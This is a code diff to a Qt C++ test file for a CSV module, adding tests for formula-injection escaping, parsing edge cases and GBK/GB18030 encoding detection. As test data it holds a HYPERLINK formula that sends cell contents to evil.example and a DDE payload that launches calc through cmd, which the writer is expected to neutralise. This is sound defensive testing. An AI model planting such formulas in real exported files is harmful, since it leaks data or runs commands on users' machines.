@@ -4,6 +4,7 @@
 #include "exchange/ExchangeError.h"
 
 #include <QBuffer>
+#include <QTemporaryDir>
 #include <QTest>
 
 using namespace exchange;
@@ -37,6 +38,13 @@ private slots:
         QTest::newRow("line breaks") << QStringList{"一\r\n二", "三\n"} << QByteArray("\"一\r\n二\",\"三\n\"\r\n");
         QTest::newRow("empty fields") << QStringList{"", "", ""} << QByteArray(",,\r\n");
         QTest::newRow("blanks kept bare") << QStringList{" x "} << QByteArray(" x \r\n");
+        // What a spreadsheet would run as a formula gets an apostrophe; numbers do not.
+        QTest::newRow("formula") << QStringList{"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "@SUM(1+1)"}
+                                 << QByteArray("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",'@SUM(1+1)\r\n");
+        QTest::newRow("plus, minus, tab, CR") << QStringList{"+cmd|' /C calc'!A0", "-x", "\tx", "\rx"}
+                                              << QByteArray("'+cmd|' /C calc'!A0,'-x,'\tx,\"'\rx\"\r\n");
+        QTest::newRow("negative numbers bare") << QStringList{"-3", "-0.5", "-3."} << QByteArray("-3,-0.5,'-3.\r\n");
+        QTest::newRow("apostrophe before a formula") << QStringList{"'=1", "'abc", "'-3"} << QByteArray("''=1,'abc,'-3\r\n");
     }
 
     void writer()
@@ -53,11 +61,13 @@ private slots:
             {"2011-10-1", "第一行\r\n第二行, 有\"引号\"", "收入155/反向31", ""},
             {"2011-10-2", "\"", ",", "百度9/谷歌6"},
             {"2011-10-3", "\n", "\r", " 前后空格 "},
+            {"=1+1", "'=1", "''@x", "'-3"},
+            {"-3", "-", "'", "\t"},
         };
         const CsvTable table = Csv::parse(written(rows));
         QCOMPARE(table.header, rows[0]);
-        QCOMPARE(table.records.size(), 3);
-        for (int i = 0; i < 3; ++i)
+        QCOMPARE(table.records.size(), rows.size() - 1);
+        for (int i = 0; i < rows.size() - 1; ++i)
             QCOMPARE(table.records[i].fields, rows[i + 1]);
         // Lines of the file where each record starts: the first holds a line break.
         QCOMPARE(table.records[0].line, 2);
@@ -78,6 +88,8 @@ private slots:
         QTest::newRow("empty last field") << QByteArray("a,b\n1,\n") << "1|";
         QTest::newRow("quote inside a bare field kept") << QByteArray("a,b\n5\"6,x\n") << "5\"6|x";
         QTest::newRow("chinese") << QByteArray("时间,备注\n2011-9-5,优化首页\n") << "2011-9-5|优化首页";
+        QTest::newRow("apostrophe before text kept") << QByteArray("a,b\n'abc,'-3\n") << "'abc|'-3";
+        QTest::newRow("trailing comma at the end") << QByteArray("a,b\n1,") << "1|";
     }
 
     void handMade()
@@ -97,12 +109,11 @@ private slots:
         QTest::addColumn<QString>("message"); // a part of the message
         // 百度 in GBK on the second line.
         QTest::newRow("GBK") << QByteArray("a,b\n\xB0\xD9\xB6\xC8,1\n") << "第 2 行有不是 UTF-8 的字节";
-        QTest::newRow("GBK header") << QByteArray("\xCA\xB1\xBC\xE4,b\n1,2\n") << "第 1 行有不是 UTF-8 的字节";
         QTest::newRow("overlong UTF-8") << QByteArray("a\n\xC0\xAF\n") << "UTF-8";
         QTest::newRow("truncated sequence") << QByteArray("a\n\xE4\xBC") << "第 2 行";
         QTest::newRow("surrogate") << QByteArray("a\n\xED\xA0\x80\n") << "UTF-8";
         QTest::newRow("unfinished quote") << QByteArray("a,b\n1,2\n\"3,4\n") << "第 3 行：引号开始的字段";
-        QTest::newRow("text after quote") << QByteArray("a,b\n\"1\"x,2\n") << "第 2 行：引号结束后还有文字";
+        QTest::newRow("text after quote") << QByteArray("a,b\n\"1\"时x,2\n") << "第 2 行：引号结束后还有文字“时”";
         QTest::newRow("too many fields") << QByteArray("a,b\n1,2\n1,2,3\n") << "第 3 行有 3 个字段，标题行有 2 个";
         QTest::newRow("too few fields") << QByteArray("a,b\n1\n") << "第 2 行有 1 个字段";
         QTest::newRow("empty") << QByteArray("\xEF\xBB\xBF") << "没有标题行";
@@ -117,6 +128,38 @@ private slots:
             QFAIL("the file was read");
         } catch (const ExchangeError &e) {
             QVERIFY2(e.message().contains(message), qPrintable(e.message()));
+        }
+    }
+
+    // A file as Chinese Excel or a script saved it, read whole as the preview does.
+    void encodings_data()
+    {
+        QTest::addColumn<QByteArray>("bytes");
+        QTest::addColumn<int>("forced"); // -1: found out
+        QTest::addColumn<QString>("read"); // encoding:header|first field, or a part of the refusal
+        const QByteArray gbk("\xCA\xB1\xBC\xE4,b\r\n\xB0\xD9\xB6\xC8\x81\x30\x81\x30,2\r\n"); // 时间 / 百度 U+0080
+        QTest::newRow("UTF-8") << QByteArray("\xEF\xBB\xBF时间,b\n百度,2\n") << -1 << "UTF-8:时间|百度";
+        QTest::newRow("GB18030 found") << gbk << -1 << "GB18030:时间|百度\u0080";
+        QTest::newRow("GB18030 read as UTF-8") << gbk << int(Encoding::Utf8) << "in.csv：第 1 行有不是 UTF-8 的字节";
+        QTest::newRow("neither") << QByteArray("a\n\xB0\xD9\xFF\n") << -1 << "in.csv：第 2 行有既不是 UTF-8 也不是 GB18030";
+        QTest::newRow("cut GB18030 pair") << QByteArray("a\nx\xB0") << int(Encoding::Gb18030) << "in.csv：第 2 行有不是 GB18030";
+        QTest::newRow("empty") << QByteArray("\xEF\xBB\xBF") << -1 << "in.csv：文件是空的";
+    }
+
+    void encodings()
+    {
+        QFETCH(QByteArray, bytes);
+        QFETCH(int, forced);
+        QFETCH(QString, read);
+        QTemporaryDir dir;
+        QFile file(dir.filePath("in.csv"));
+        QVERIFY(file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size());
+        file.close();
+        try {
+            const CsvPreview p = Csv::inspect(file.fileName(), 1, forced < 0 ? std::nullopt : std::optional(Encoding(forced)));
+            QCOMPARE(encodingName(p.encoding) + ':' + p.header.first() + '|' + p.first.first().fields.first(), read);
+        } catch (const ExchangeError &e) {
+            QVERIFY2(e.message().startsWith(read), qPrintable(e.message()));
         }
     }
 };
